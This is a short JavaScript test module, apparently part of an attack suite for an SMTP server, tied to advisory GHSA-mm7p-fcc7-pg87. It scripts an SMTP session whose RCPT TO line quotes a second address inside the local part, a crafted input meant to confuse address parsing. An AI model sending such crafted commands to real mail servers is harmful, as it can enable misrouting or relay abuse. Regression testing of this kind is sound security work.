import { talk } from '../attack.mjs';

/** Quotes an address into the local part. Source: GHSA-mm7p-fcc7-pg87. */
export default talk({
  sent: 0,
  steps: ({ to }) => [
    'EHLO a\r\n',
    'MAIL FROM:<a@example.org>\r\n',
    `RCPT TO:<"x@elsewhere.example x"@${to.split('@')[1]}>\r\n`,
    'QUIT\r\n',
  ],
});
